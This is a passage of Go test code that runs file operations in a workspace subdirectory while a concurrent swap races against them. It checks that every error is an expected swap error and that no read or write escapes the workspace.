	// can tell apart: none unclassified.
	unclassified := map[string]error{}
	classify := func(op string, err error) {
		if err != nil && !slices.ContainsFunc(swapErrors, func(e error) bool { return errors.Is(err, e) }) {
			unclassified[op] = err
		}
	}
	for i := 0; i < 10*raceRuns && time.Now().Before(deadline); i++ {
		data, err := b.ReadFile(ctx, "sub/f")
		if err == nil && string(data) != "inside" {
			leaks = append(leaks, "read "+string(data))
		}
		classify("ReadFile", err)
		classify("WriteFile", b.WriteFile(ctx, "sub/w", []byte("x")))
		classify("Mkdir", b.Mkdir(ctx, "sub/d", false))
		classify("Remove", b.Remove(ctx, "sub/d", false))
		_, err = b.Stat(ctx, "sub/w")
		classify("Stat", err)
		if err == nil {
			classify("Rename", b.Rename(ctx, "sub/w", "sub/w2"))
		}
	}
	stop()
	for op, err := range unclassified {
		t.Errorf("%s under a swap: %v, want an error of one of %v", op, err, swapErrors)
	}
	ents, err := os.ReadDir(outside)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range ents {
		if e.Name() != "f" {
			leaks = append(leaks, "wrote "+e.Name())
		}
	}
	if len(leaks) > 0 {
		t.Errorf("file operations reached outside the workspace: %v", leaks)
	}
}
